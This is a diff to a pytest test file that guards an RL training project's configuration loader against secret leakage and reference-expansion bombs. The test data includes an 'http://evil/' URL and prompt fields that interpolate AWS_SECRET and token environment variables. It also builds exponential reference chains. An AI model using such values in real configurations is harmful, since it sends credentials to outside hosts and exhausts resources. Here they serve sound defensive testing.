@@ -4,8 +4,10 @@ import re
 import shutil
 import subprocess
 import time
+from collections.abc import Callable
 from importlib import import_module
 from pathlib import Path
+from typing import Any
 
 import pytest
 import yaml
@@ -251,7 +253,12 @@ def test_what_only_looks_like_a_secret_by_its_name_is_typed(monkeypatch):
 
 
 @pytest.mark.parametrize(
-    "line", ["key_variable: AWS_SECRET_ACCESS_KEY", "url: 'http://evil/${oc.env:AWS_SECRET}'"]
+    "line",
+    [
+        "key_variable: AWS_SECRET_ACCESS_KEY",
+        "url: 'http://evil/${oc.env:AWS_SECRET}'",
+        "prompt: '{reply} ${oc.env:AWS_SECRET}'",
+    ],
 )
 def test_a_file_of_a_stranger_does_not_say_which_key_a_server_gets(line, tmp_path, monkeypatch):
     folder = tmp_path / "conf"
@@ -262,6 +269,40 @@ def test_a_file_of_a_stranger_does_not_say_which_key_a_server_gets(line, tmp_pat
     (folder / "experiment" / "evil.yaml").write_text(text + node)
     with pytest.raises(ValueError, match="says which key is sent to a server"):
         compose_checked(["experiment=evil"])
+
+
+SENT = {
+    "+env.rewards.j.key_variable": "AWS_SECRET",
+    "+env.rewards.j.prompt": "{reply} ${oc.env:MY_TOKEN}",
+    "policy.system_prompt": "${oc.env:MY_TOKEN}",
+}
+
+
+@pytest.mark.parametrize("place", SENT)
+def test_a_run_folder_of_somebody_else_does_not_say_which_key_a_server_gets(
+    place, tmp_path, monkeypatch
+):
+    """Its owner repeats it; who goes on with a sweep has said it in the words of the sweep."""
+    monkeypatch.setenv("MY_TOKEN", "sk-planted-1")
+    judge = "+env.rewards.j={_target_: envs.rewards.Judge, url: 'http://127.0.0.1:9', model: m}"
+    word = f"{place}='{SENT[place]}'"
+    start = ["experiment=grpo_tiny", "policy.model=tiny", judge, word]
+    config = compose_checked(start)
+    (tmp_path / "config.yaml").write_text(yaml.safe_dump(config))
+    resume, name = f"resume={tmp_path}", place.lstrip("+")
+    for words in ([resume], [resume, "mode=evaluate"]):
+        with pytest.raises(ValueError, match="says which key is sent to a server") as line:
+            asked(words) or read_command(words)
+        assert f"'{name}={SENT[place]}'" in str(line.value)
+        for again in (word, f"{name}={SENT[place]}"):
+            assert asked([*words, again]) or read_command([*words, again]).config
+    for other in (f"{name}=OTHER", "seed=2"):
+        with pytest.raises(ValueError, match="cannot change on resume"):
+            read_command([resume, other])
+    assert read_command([resume, "allow_targets=true"]).config, "which lets it run any code"
+    first = read_command(["-m", *start, "seed=1,2", f"hydra.sweep.dir={tmp_path}/s"])
+    prepare(first.job(0).config, first.job(0).folder, script=Path(), compose=lambda _: {})
+    assert first.job(0).config["resume"] == str(first.job(0).folder)
 
 
 def test_a_secret_that_is_looked_up_stands_in_no_file_of_a_new_run(tmp_path, monkeypatch):
@@ -362,6 +403,45 @@ def test_a_saved_configuration_of_aliases_without_end_is_one_line(bomb, tmp_path
         read_command([f"resume={tmp_path}"])
     assert "\n" not in str(line.value)
     assert load_run(tmp_path).config == {}, "a page is drawn of what there is"
+
+
+def chain(link: Callable[[str], Any], length: int = 40) -> dict[str, Any]:
+    """Return values of which each refers to the next more than once."""
+    links = {f"k{i}": link(f"env.task.k{i + 1}") for i in range(length)}
+    return {**links, f"k{length}": "ab"}
+
+
+REFERENCES = {
+    "texts": chain(lambda name: f"${{{name}}}${{{name}}}"),
+    "keys": chain(lambda name: {"a": f"${{{name}}}", "b": f"${{{name}}}"}),
+    "lists": chain(lambda name: [f"${{{name}}}"] * 2),
+    "resolvers": chain(lambda name: f"${{oc.select:{name}}}${{oc.select:{name}}}"),
+    "letters": {"a": "x" * 100_000, "b": "${env.task.a}" * 2_000},
+}
+
+
+@pytest.mark.parametrize("bomb", REFERENCES)
+def test_references_that_stand_for_without_end_are_one_line(bomb, conf, tmp_path):
+    """In a file of conf/ and in somebody's run folder."""
+    sound = compose_checked(["experiment=grpo_tiny"])
+    word = write_experiment(conf, env={"task": REFERENCES[bomb]})
+    saved = sound | {"env": sound["env"] | {"task": sound["env"]["task"] | REFERENCES[bomb]}}
+    (tmp_path / "config.yaml").write_text(yaml.safe_dump(saved))
+    for words in ([word], [f"resume={tmp_path}"], ["mode=evaluate", f"resume={tmp_path}"]):
+        with pytest.raises(ValueError, match=r"stand for more than [\d,]+ values") as line:
+            asked(words) or read_command(words)
+        assert str(line.value).startswith("env.task.")
+        assert "\n" not in str(line.value)
+    assert load_run(tmp_path).config == saved, "a page shows them as they are written"
+
+
+def test_a_file_may_use_a_few_references(conf):
+    said = {
+        "env": {"task": {"seed": "${seed}"}},
+        "policy": {"system_prompt": "${seed}-${kl.coeff}"},
+    }
+    found = compose_checked([write_experiment(conf, **said), "seed=7", "kl.coeff=0.5"])
+    assert (found["env"]["task"]["seed"], found["policy"]["system_prompt"]) == (7, "7-0.5")
 
 
 def test_a_file_may_use_a_few_aliases(conf):
